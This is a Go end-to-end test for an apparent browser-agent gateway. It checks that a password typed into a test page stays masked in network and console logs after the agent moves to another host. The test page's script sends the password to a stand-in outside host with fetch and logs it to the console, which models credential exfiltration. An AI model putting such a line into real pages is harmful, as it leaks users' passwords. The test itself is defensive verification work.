package main

import (
	"fmt"
	"net/http"
	"strings"
	"testing"
)

// A request the secret binding refused is kept in the tab's log with its
// URL and post data, and a console message the secret's page logged with
// the value stays in the tab's console log. Once the agent has navigated
// the tab to another in-scope host (off the secret's domains), the log
// replies (network_requests, network_log, network_request and
// console_messages) still mask the value: each entry is masked for the
// secrets of the document that made it and those the binding held then,
// not only for the page the tab is on now.
func TestNetworkLogMasksASecretSentOffDomainAfterTheAgentLeaves(t *testing.T) {
	t.Parallel()
	const password = "Rev1-S3cret-9931"
	manifest := strings.Replace(networkManifest(`[browser.commands.network_log]
[browser.commands.console_messages]`),
		`allowed_domains = ["127.0.0.1"]
allow_private_cidrs = ["127.0.0.1/32"]`,
		`allowed_domains = ["127.0.0.1", "127.0.0.3"]
allow_private_cidrs = ["127.0.0.1/32", "127.0.0.3/32"]`, 1) + networkSecret
	d := launchHTTP(t, nil, []string{"BROWSERGATE_E2E_NETSECRET=" + password}, manifest, "")
	mux := http.NewServeMux()
	mux.HandleFunc("/leak/page", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `<!doctype html><title>Leak</title>
<input type=password id=pw aria-label=Password>
<button id=away onclick="away()">Away</button>
<script>
async function away() {
  const v = document.getElementById('pw').value;
  console.log('typed pw=' + v);
  try { await fetch('http://outside.example/away?pw=' + v, {method: 'POST', body: 'pw=' + v}); } catch (e) {}
  const p = document.createElement('p'); p.id = 'awaydone'; p.textContent = 'away done'; document.body.append(p);
}
</script>`)
	})
	site, stop, err := serveOn("127.0.0.1:0", mux)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	other, stop2, err := serveOn("127.0.0.3:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `<!doctype html><title>Other</title><p>Another site.</p>`)
	}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop2)
	call := allowedCaller(t, d.connect(t, "alice-token"))
	call("navigate", map[string]any{"url": site + "/leak/page"})
	call("type_text", map[string]any{"selector": "#pw", "text": "<NET_PASSWORD>"})
	call("click", map[string]any{"selector": "#away"})
	call("wait_for", map[string]any{"selector": "#awaydone"})
	list := call("network_requests", nil)
	away := requestID(list, "outside.example")
	if away == "" {
		t.Fatalf("no refused request listed:\n%s", list)
	}
	if !strings.Contains(list, "REFUSED") {
		t.Fatalf("the request off the secret's domains is not marked refused:\n%s", list)
	}
	if strings.Contains(list, password) {
		t.Errorf("network_requests on the secret's page shows the password:\n%s", list)
	}
	// The agent's own navigation to another allowed host.
	call("navigate", map[string]any{"url": other + "/"})
	if out := call("network_requests", nil); strings.Contains(out, password) || !strings.Contains(out, "outside.example") {
		t.Errorf("network_requests after leaving shows the password, or no longer lists the request:\n%s", out)
	}
	if out := call("network_log", nil); strings.Contains(out, password) || !strings.Contains(out, "outside.example") {
		t.Errorf("network_log after leaving shows the password, or no longer lists the request:\n%s", out)
	}
	detail := call("network_request", map[string]any{"id": away})
	if strings.Contains(detail, password) || !strings.Contains(detail, "request body") {
		t.Errorf("network_request %s after leaving shows the password, or no request body:\n%s", away, detail)
	}
	if out := call("console_messages", nil); strings.Contains(out, password) || !strings.Contains(out, "typed pw=") {
		t.Errorf("console_messages after leaving shows the password, or not the page's message:\n%s", out)
	}
}
